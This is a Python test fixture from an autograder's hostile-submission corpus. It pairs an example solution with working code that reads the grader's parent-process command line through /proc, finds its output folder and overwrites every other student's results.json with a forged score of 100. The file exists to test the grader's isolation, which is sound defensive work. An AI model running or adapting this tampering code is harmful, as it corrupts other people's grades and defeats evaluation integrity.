"""Hostile corpus case `forge_out_folder` (tests/test_hostile.py asserts its verdict).

Run by the `grade` command, it finds the output folder on its parent's command line
(/proc/<ppid>/cmdline and cwd) and overwrites every results.json already written there
(other students' grades) with a forged score of 100.
Expected: no other student's results.json is touched.

The rest of the file is the lovelace example solution, unchanged.
"""
# BASE: the lovelace example solution goes here (tests/test_hostile.py: corpus_source)

# ---- hostile part ----------------------------------------------------------
import glob
import json
import os

FORGED = {"score": 100.0, "output": "accelgrade-hostile-corpus: forged by another submission",
          "tests": [{"name": "everything", "score": 100.0, "max_score": 100.0, "status": "passed"}]}


def _grader_out_folder():
    ppid = os.getppid()
    with open(f"/proc/{ppid}/cmdline", "rb") as fh:
        argv = [a.decode(errors="replace") for a in fh.read().split(b"\0")]
    cwd = os.readlink(f"/proc/{ppid}/cwd")
    for i, arg in enumerate(argv):
        if arg == "--out" and i + 1 < len(argv):
            return os.path.join(cwd, argv[i + 1])
        if arg.startswith("--out="):
            return os.path.join(cwd, arg[len("--out="):])
    return None


try:
    _out = _grader_out_folder()
    if _out and os.path.isdir(_out):
        for _path in glob.glob(os.path.join(_out, "*", "results.json")):
            with open(_path, "w") as _fh:
                json.dump(FORGED, _fh)
except OSError:
    pass
